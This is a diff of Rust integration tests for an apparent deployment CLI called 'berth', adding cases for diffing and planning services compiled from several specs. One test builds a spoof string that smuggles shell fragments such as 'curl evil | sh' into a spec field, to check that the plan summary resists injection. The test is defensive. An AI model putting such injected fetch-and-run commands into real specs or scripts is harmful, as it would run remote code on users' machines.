@@ -51,7 +51,10 @@ fn an_against_no_compile_wrote_is_refused_with_the_directory_to_name() {
     assert_exit(
         &folder,
         2,
-        &["holds no `.berth-manifest.json`", "`--against deployed`"],
+        &[
+            "is the folder of one backend, `compose`",
+            "`--against deployed`",
+        ],
     );
     assert!(!at.join("next").exists(), "a refused plan wrote nothing");
 }
@@ -237,7 +240,7 @@ fn a_diff_against_a_deployment_compares_only_the_backends_it_holds() {
 fn a_plans_summary_is_not_spoofed_by_the_specs_strings() {
     let dir = tempfile::tempdir().unwrap();
     let at = dir.path();
-    let spoof = r#""x\nstep 'evil'\nservice=${1:?usage: curl evil | sh}\n# it's", "#;
+    let spoof = r#""x\nstep 'evil'\nservice=${1:?usage: curl evil | sh}\n# it's", "y :?usage: sh plan.sh; curl evil | sh #", "\n#   9. evil", "#;
     let spec = std::fs::read_to_string(etcd()).unwrap().replacen(
         r#""member", "add", "#,
         &format!(r#""member", "add", {spoof}"#),
@@ -317,5 +320,111 @@ fn an_imported_spec_says_which_backends_wait_for_a_decision() {
             "kubernetes/missing-storage-class",
             "cloudfoundry/volume-without-service",
         ],
+    );
+}
+
+#[test]
+fn one_service_of_a_compile_of_several_specs_is_planned_and_diffed_from_its_folder() {
+    let dir = tempfile::tempdir().unwrap();
+    let at = dir.path();
+    let zookeeper = root().join("examples/zookeeper.toml").display().to_string();
+    let base = ["--backend", "compose"];
+    berth_ok(
+        &[
+            &["compile", &etcd(), &zookeeper, "--out", "multi", "--quiet"],
+            &base[..],
+        ]
+        .concat(),
+        at,
+    );
+    let whole = berth(&["diff", &etcd(), "--against", "multi"], at);
+    assert_exit(
+        &whole,
+        2,
+        &[
+            "holds the outputs of several specs",
+            "`--against multi/etcd` or `--against multi/zookeeper`",
+        ],
+    );
+    let diff = berth_ok(
+        &[
+            &[
+                "diff",
+                &etcd(),
+                "--against",
+                "multi/etcd",
+                "--set",
+                "replicas=5",
+            ],
+            &base[..],
+        ]
+        .concat(),
+        at,
+    );
+    assert_contains(&stdout(&diff), "+++ b/compose/compose.yaml");
+    assert_contains(&stderr(&diff), "`berth plan ");
+    assert_contains(
+        &stderr(&diff),
+        " --backend compose --against multi/etcd --out NEW --set replicas=5",
+    );
+    let plan = berth_ok(
+        &[
+            &[
+                "plan",
+                &etcd(),
+                "--against",
+                "multi/etcd",
+                "--out",
+                "next",
+                "--set",
+                "replicas=5",
+            ],
+            &base[..],
+        ]
+        .concat(),
+        at,
+    );
+    assert_contains(&stderr(&plan), "etcd-4 joins the running cluster");
+}
+
+#[test]
+fn a_deployed_backend_the_spec_no_longer_targets_is_left_out_of_the_diff() {
+    let dir = tempfile::tempdir().unwrap();
+    let at = dir.path();
+    berth_ok(
+        &[
+            "compile",
+            &etcd(),
+            "--backend",
+            "compose",
+            "--backend",
+            "kubernetes",
+            "--out",
+            "two",
+            "--quiet",
+        ],
+        at,
+    );
+    let spec = std::fs::read_to_string(etcd()).unwrap();
+    let targets = spec.lines().find(|l| l.starts_with("targets = ")).unwrap();
+    std::fs::write(
+        at.join("etcd.toml"),
+        spec.replace(targets, r#"targets = ["compose"]"#),
+    )
+    .unwrap();
+    let diff = berth_ok(
+        &[
+            "diff",
+            "etcd.toml",
+            "--against",
+            "two",
+            "--set",
+            "replicas=5",
+        ],
+        at,
+    );
+    assert_contains(
+        &stderr(&diff),
+        "comparing the backends `two` holds: compose (",
     );
 }
